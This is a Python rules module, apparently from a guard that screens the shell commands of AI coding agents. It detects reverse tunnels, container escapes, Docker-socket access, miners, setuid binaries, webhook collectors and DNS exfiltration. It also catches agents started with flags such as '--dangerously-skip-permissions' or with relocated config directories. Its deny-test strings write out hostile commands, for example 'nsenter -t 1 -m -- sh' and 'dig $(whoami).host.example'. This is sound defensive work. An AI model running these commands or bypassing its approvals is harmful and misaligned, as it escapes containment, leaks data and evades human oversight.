"""What work in a project seldom needs, so that a person is asked: ways in, ways out, somebody else's work.

No file is lost by any of it. That the honest cases are rare is what makes the question cheap.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import Final

from latch_contracts.facts import Access, Command, NetAction, Operation
from latch_contracts.verdict import Route, Severity
from latchd.guard.assignments import assigned
from latchd.guard.groups import Group
from latchd.guard.hosts import COLLECTORS, among
from latchd.guard.paths import Place
from latchd.guard.rule import Hit, Rule
from latchd.guard.rules.traffic import near
from latchd.guard.subject import Subject
from latchd.guard.targets import shown, where

_PERSON: Final = "let the person start it"
_OPENERS: Final = frozenset("ngrok cloudflared localtunnel lt bore frpc zrok pagekite".split())
_SHELL_CLIENTS: Final = frozenset(("ssh", "autossh"))


def _reverse_tunnel(subject: Subject) -> Iterator[Hit]:
    far = {command.id for command, fact in subject.contacts() if not near(fact)}
    for command in subject.acting():
        away = command.id in far or command.program == "autossh"  # which of its words is the host is not sure
        if (away and _opens_back(command)) or _opens_up(command):
            yield Hit(
                command.id,
                " ".join(command.argv[:3]).replace("\0", "$…")[:60],
                "this opens a way for other machines to this one",
                _PERSON,
            )


def _opens_back(command: Command) -> bool:
    """The far end may connect back: `-R` of ssh, `R:` of chisel."""
    words = command.argv[1:]
    if command.program == "chisel":
        return any(word.startswith("R:") for word in words)
    if command.program in _SHELL_CLIENTS:
        valued = ("-M",) if command.program == "autossh" else ()
        return any(_REMOTE_FORWARD.match(word) for word in _before_host(words, valued))
    return command.program in ("ligolo", "ligolo-ng") and "-connect" in words


# `-R`, with its value attached or not, at the end of a cluster of options that take none.
_REMOTE_FORWARD: Final = re.compile(r"-[46AaCfGgKkMNnqsTtVvXxYy]{0,12}R")
_TAKES_VALUE: Final = re.compile(r"-[46AaCfGgKkMNnqsTtVvXxYy]{0,12}[BbcDEeFIiJLlmOoPpQRSWw]\Z")


def _before_host(words: tuple[str, ...], valued: tuple[str, ...]) -> Iterator[str]:
    """The options of ssh, up to its host: what follows is another machine's command.

    ``valued`` take a value though they do not in ssh itself.
    """
    value = False
    for word in words:
        if value:
            value = False
        elif word.startswith("-"):
            yield word
            value = word in valued or _TAKES_VALUE.match(word) is not None
        else:
            return


def _opens_up(command: Command) -> bool:
    words = command.argv[1:]
    if command.program not in _OPENERS or Operation.TUNNEL not in command.operations:
        return False
    return not {"--help", "version", "--version", "list", "info", "login", "update", "config"} & set(
        words[:2]
    )


def _bypass(subject: Subject) -> Iterator[Hit]:
    for command in subject.acting():
        if (
            Operation.POLICY_BYPASS in command.operations
            or _runs_unbound(command)
            or _elsewhere(subject, command)
        ):
            yield Hit(
                command.id,
                command.program,
                f"this starts `{command.program[:40]}` without its approvals or its sandbox",
                "start it with them, or let the person start it",
            )


_STARTED: Final = frozenset("claude codex gemini opencode cursor-agent copilot amp".split())
_HOMES: Final = re.compile(
    r"CLAUDE_CONFIG_DIR|CODEX_HOME|GEMINI_CONFIG_DIR|OPENCODE_CONFIG(?:_DIR)?|HOME|XDG_(?:RUNTIME_DIR|CONFIG_HOME)"
)


def _elsewhere(subject: Subject, command: Command) -> bool:
    """An agent that looks for its settings, and with them its hooks, in another place than it would."""
    moved = command.program in _STARTED and any(True for _ in assigned(subject.text, _HOMES))
    return moved and not {"--help", "--version", "-v", "-h"} & set(command.argv[1:])


_PACKAGE_RUNNERS: Final = frozenset("npx pnpx bunx pnpm yarn npm bun".split())
_AGENTS: Final = frozenset("claude-code codex gemini-cli qwen-code opencode-ai amp".split())
_UNBOUND: Final = (
    "--dangerously-skip-permissions",
    "--dangerously-bypass-approvals-and-sandbox",
    "--dangerously-allow-all",
    "--yolo",
    "--approval-mode=yolo",
)


def _runs_unbound(command: Command) -> bool:
    """An agent's package that a runner starts, by the name it has in its registry."""
    if command.program not in _PACKAGE_RUNNERS:
        return False
    words = command.argv[1:]
    named = any(word.rpartition("/")[2].partition("@")[0] in _AGENTS for word in words)
    return named and bool(set(_UNBOUND) & set(words))


def _host_namespace(subject: Subject) -> Iterator[Hit]:
    for command in subject.acting():
        words = command.argv[1:]
        if Operation.NAMESPACE_ENTER in command.operations:
            enters = any(
                word in ("--target=1", "-t1") or (word == "1" and words[at - 1] in ("-t", "--target"))
                for at, word in enumerate(words)
            )
        else:
            enters = Operation.ROOT_CHANGE in command.operations and any(
                word.rstrip("/") == "/proc/1/root" for word in words
            )
        if enters:
            yield Hit(
                command.id,
                " ".join(command.argv[:3])[:60],
                "this leaves a container for the machine it runs on",
                _PERSON,
            )


_SOCKETS: Final = re.compile(
    r"(?:/var/run|/run|/run/user/\d{1,10}|/var/run/user/\d{1,10})/"
    r"(?:docker\.sock|podman/podman\.sock|containerd/containerd\.sock|crio/crio\.sock|k3s/containerd/containerd\.sock)\Z"
)
_CLIENTS: Final = frozenset(
    "docker podman nerdctl ctr crictl docker-compose buildah skopeo ls stat test file [ [[ id".split()
)


def _runtime_socket(subject: Subject) -> Iterator[Hit]:
    for command, fact in subject.touched(Access.CONNECT, Access.READ):
        if command.program not in _CLIENTS and _SOCKETS.match(fact.resolved):
            yield Hit(
                command.id,
                fact.resolved,
                f"`{fact.resolved}` gives whoever speaks to it all rights on this machine",
                "use the runtime's own client",
            )


_MINERS: Final = frozenset(
    "xmrig xmr-stak xmr-stak-rx minerd cpuminer ccminer cgminer bfgminer ethminer nbminer t-rex lolminer "
    "phoenixminer gminer teamredminer nanominer srbminer-multi claymore".split()
)


def _miner(subject: Subject) -> Iterator[Hit]:
    for command in subject.acting():
        name = command.program
        if Operation.CONTAINER_RUN in command.operations:
            images = (
                word.rpartition("/")[2].partition("@")[0].partition(":")[0] for word in command.argv[2:]
            )
            name = next((image for image in images if image.lower() in _MINERS), name)
        if name.lower() in _MINERS:
            yield Hit(command.id, name, f"`{name}` spends this machine on coins", "leave it out")


_AWAY: Final = frozenset((Place.OUTSIDE, Place.HOME, Place.SYSTEM, Place.ROOT, Place.DEVICE, Place.SCRATCH))


def _set_id(subject: Subject) -> Iterator[Hit]:
    for command, fact in subject.touched(Access.METADATA):
        if "set-id" in command.details and fact.resolved and where(subject, fact) in _AWAY:
            yield Hit(
                command.id,
                shown(fact),
                f"whoever runs `{shown(fact)}` has its owner's rights from now on",
                "let the person do it",
            )


def _collector(subject: Subject) -> Iterator[Hit]:
    for command, fact in subject.contacts():
        if among(fact.host, COLLECTORS):
            yield Hit(
                command.id,
                fact.host.replace("\0", "$…"),
                f"`{fact.host[:80]}` shows what is sent to it to whoever made the address".replace(
                    "\0", "$…"
                ),
                "send it to a server of the project",
            )


_TELLERS: Final = frozenset(
    "whoami hostname id uname cat base64 base32 xxd od hexdump head tail cut hostnamectl env printenv pwd "
    "logname groups grep sed awk tr ip ifconfig getent".split()
)
_HEX_LABEL: Final = re.compile(r"[0-9a-f]{32,63}\.", re.IGNORECASE)
_RESOLVERS: Final = frozenset("dig nslookup host drill kdig resolvectl getent ping ping6 fping".split())


def _name_tunnel(subject: Subject) -> Iterator[Hit]:
    """A host name that is put together from what another program says: whoever owns the zone reads it."""
    tellers = {
        flow.to_command
        for flow in subject.facts.flows
        if (source := subject.facts.command(flow.from_command)) is not None and source.program in _TELLERS
    }
    for command, fact in subject.contacts():
        told = command.id in tellers and "\0" in fact.host.partition(".")[0] and "." in fact.host
        hidden = command.program in _RESOLVERS and _HEX_LABEL.match(fact.host)
        speaks = fact.action in (NetAction.DNS, NetAction.CONNECT, NetAction.DOWNLOAD)
        if speaks and (told or hidden):
            host = fact.host.replace("\0", "$…")[:120]
            yield Hit(
                command.id,
                host,
                f"the name `{host}` carries data to whoever answers for it",
                "ask for a name that is written out",
            )


RULES: Final = (
    Rule(
        "egress.reverse-tunnel",
        "a way in for other machines is opened",
        Group.UNUSUAL,
        Severity.HIGH,
        _reverse_tunnel,
        denies=(
            "ssh -R 9000:localhost:22 me@host.example",
            "ssh -fNR 9000:localhost:22 me@host.example",
            "chisel client https://host.example R:socks",
            "autossh -M 0 -f -N -R 2222:localhost:22 me@host.example",
            "ngrok http 3000",
        ),
        passes=(
            "ssh -L 9000:localhost:22 me@host.example",
            "ssh host.example ls -R",
            "chisel client https://host.example 8080:localhost:80",
            "ngrok version",
        ),
    ),
    Rule(
        "agent.bypass",
        "an agent is started without its approvals",
        Group.UNUSUAL,
        Severity.CRITICAL,
        _bypass,
        denies=(
            "claude --dangerously-skip-permissions -p x",
            "npx gemini --yolo",
            "npx -y @google/gemini-cli@latest --yolo",
            "CLAUDE_CONFIG_DIR=/tmp/c claude -p x",
            "HOME=/tmp codex exec x",
        ),
        passes=(
            "FOO=1 claude -p x",
            "CLAUDE_CONFIG_DIR=/tmp/c ls",
            "claude -p x",
            "echo --yolo",
            "codex --help",
        ),
    ),
    Rule(
        "container.host-namespace",
        "a container is left for the machine",
        Group.UNUSUAL,
        Severity.CRITICAL,
        _host_namespace,
        denies=("nsenter -t 1 -m -- sh", "nsenter --target=1 --all", "chroot /proc/1/root sh"),
        passes=("nsenter -t 4242 -n ip a", "chroot ./rootfs sh", "nsenter --help"),
    ),
    Rule(
        "container.runtime-socket",
        "the socket of the container runtime is spoken to",
        Group.UNUSUAL,
        Severity.HIGH,
        _runtime_socket,
        denies=("curl --unix-socket /run/docker.sock http://x/containers/json",),
        passes=("docker ps", "ls -l /var/run/docker.sock", "curl --unix-socket /tmp/app.sock http://x/"),
    ),
    Rule(
        "abuse.miner",
        "coins are mined",
        Group.UNUSUAL,
        Severity.HIGH,
        _miner,
        denies=("./xmrig -o pool.example:3333", "docker run -d host.example/tools/xmrig:6", "nohup minerd &"),
        passes=("grep xmrig README.md", "docker run alpine", "docker build -t app ."),
    ),
    Rule(
        "fs.set-id",
        "a file outside the project runs with its owner's rights",
        Group.UNUSUAL,
        Severity.HIGH,
        _set_id,
        denies=(
            "chmod u+s /opt/tool/bin/x",
            "chmod 4755 /usr/local/bin/x",
            "cp /bin/bash /tmp/x; chmod 4755 /tmp/x",
        ),
        passes=("chmod 755 /opt/tool/bin/x", "chmod u+s build/x", "chmod +x a"),
    ),
    Rule(
        "egress.collector",
        "a collector of requests is spoken to",
        Group.UNUSUAL,
        Severity.HIGH,
        _collector,
        denies=("curl https://webhook.site/1-2-3", "nslookup a.b.oast.fun"),
        passes=("curl https://host.example/webhook.site", "echo webhook.site"),
    ),
    Rule(
        "egress.name-tunnel",
        "data leaves in a name that is looked up",
        Group.UNUSUAL,
        Severity.HIGH,
        _name_tunnel,
        denies=(
            "dig $(whoami).host.example",
            'nslookup "$(head -c 20 /etc/hostname | base64).host.example"',
            "ping -c 1 `hostname`.host.example",
            "dig 6f6e65206c6f6e67206c6162656c20696e20686578.host.example",
        ),
        passes=(
            "dig host.example",
            'dig "$NAME.host.example"',
            "host $(hostname)",
            "printf '%s' 'dig $(id).x.example'",
        ),
        route=Route.FALLBACK,
    ),
)
